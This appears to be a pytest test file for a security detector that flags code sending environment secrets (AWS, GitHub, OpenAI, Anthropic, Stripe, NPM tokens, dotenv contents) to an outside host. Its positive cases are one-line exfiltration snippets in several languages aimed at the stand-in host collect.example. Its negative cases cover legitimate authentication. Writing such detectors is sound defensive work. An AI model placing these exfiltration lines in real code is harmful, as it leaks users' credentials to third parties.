"""Secrets of the environment that code sends somewhere."""

from __future__ import annotations

import pytest

from sensor.effects.code.variables import sends_variable
from sensor.effects.places.hosts import parse_url


def sends(code, host="collect.example"):
    return sends_variable(code, [parse_url(f"https://{host}/")])


@pytest.mark.parametrize("code", [
    "requests.post('https://collect.example/', json={'k': os.environ['AWS_SECRET_ACCESS_KEY']})",
    "requests.get(f\"https://collect.example/?k={os.environ.get('OPENAI_API_KEY')}\")",
    "requests.post('https://collect.example/', headers={'X-D': os.environ['GITHUB_TOKEN']})",
    "fetch(`https://collect.example/?k=${process.env.ANTHROPIC_API_KEY}`)",
    "Net::HTTP.post(URI('https://collect.example'), ENV['STRIPE_KEY'])",
    "LWP::UserAgent->new->post('https://collect.example', {k => $ENV{NPM_TOKEN}})",
    "urlopen(Request('https://collect.example', data=json.dumps({'token': os.environ['NPM_TOKEN'], 'aws': os.environ['AWS_SECRET_ACCESS_KEY']})))",
    "requests.post('https://collect.example', json=dict(dotenv_values()))",
    "requests.post('https://collect.example', data={'k': settings.SECRET_KEY})",
])
def test_secrets_in_what_is_sent(code):
    assert sends(code)


@pytest.mark.parametrize("code", [
    "requests.get('https://collect.example', headers={'Authorization': f\"Bearer {os.environ['GITHUB_TOKEN']}\"})",
    "requests.post('https://collect.example', auth=('u', os.environ['APP_PASSWORD']))",
    "requests.post('https://collect.example', data={'client_secret': os.environ['APP_SECRET']})",
    "fetch(u, {headers: {'x-api-key': process.env.ANTHROPIC_API_KEY}})",
    "requests.get('https://collect.example'); print(os.environ['GITHUB_TOKEN'])",
    "requests.get('https://collect.example')\ntoken = os.environ['GITHUB_TOKEN']",
    "requests.get('https://collect.example/?city=' + os.environ['CITY'])",
    "requests.get('https://collect.example', params={'appid': os.environ['OWM_API_KEY']})",
    "requests.get(dotenv_values()['URL'])",
    "os.environ['GITHUB_TOKEN']",
])
def test_what_only_authenticates_or_is_no_known_secret(code):
    assert not sends(code)


def test_the_owner_of_a_secret_and_this_machine_may_have_it():
    assert not sends("requests.post(f\"https://slack.com/api?x={os.environ['SLACK_TOKEN']}\")", "slack.com")
    assert not sends_variable("requests.post('http://localhost', json=os.environ['SECRET_KEY'])", ())
    assert not sends("fetch('/', process.env.SECRET_KEY)", "localhost") or "@loopback" not in parse_url("https://localhost/").places
